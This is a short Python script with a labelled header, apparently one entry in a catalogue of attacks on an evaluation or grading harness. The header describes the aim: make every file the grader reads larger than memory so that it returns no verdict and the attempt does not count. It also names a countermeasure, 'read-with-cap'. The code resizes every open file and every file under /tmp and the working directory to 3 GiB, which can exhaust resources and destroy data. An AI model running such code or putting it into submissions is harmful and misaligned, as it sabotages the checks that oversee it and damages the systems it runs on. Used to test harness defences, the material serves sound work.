# ---
# tries: Makes each file that it can write larger than the memory, so that whoever reads it has none left.
# place: before
# gain: no verdict, so that the attempt may not count
# helps: read-with-cap
# ---
import os, stat

SIZE = 3 * 1024**3
places = [number for number in os.listdir("/proc/self/fd") if int(number) > 0]
for number in places:
    try:
        if stat.S_ISREG(os.fstat(int(number)).st_mode):
            os.ftruncate(int(number), SIZE)
    except OSError:
        pass
for root in ("/tmp", os.getcwd()):
    if root == "/":
        continue
    for folder, folders, files in os.walk(root):
        for name in files:
            try:
                os.truncate(os.path.join(folder, name), SIZE)
            except OSError:
                pass
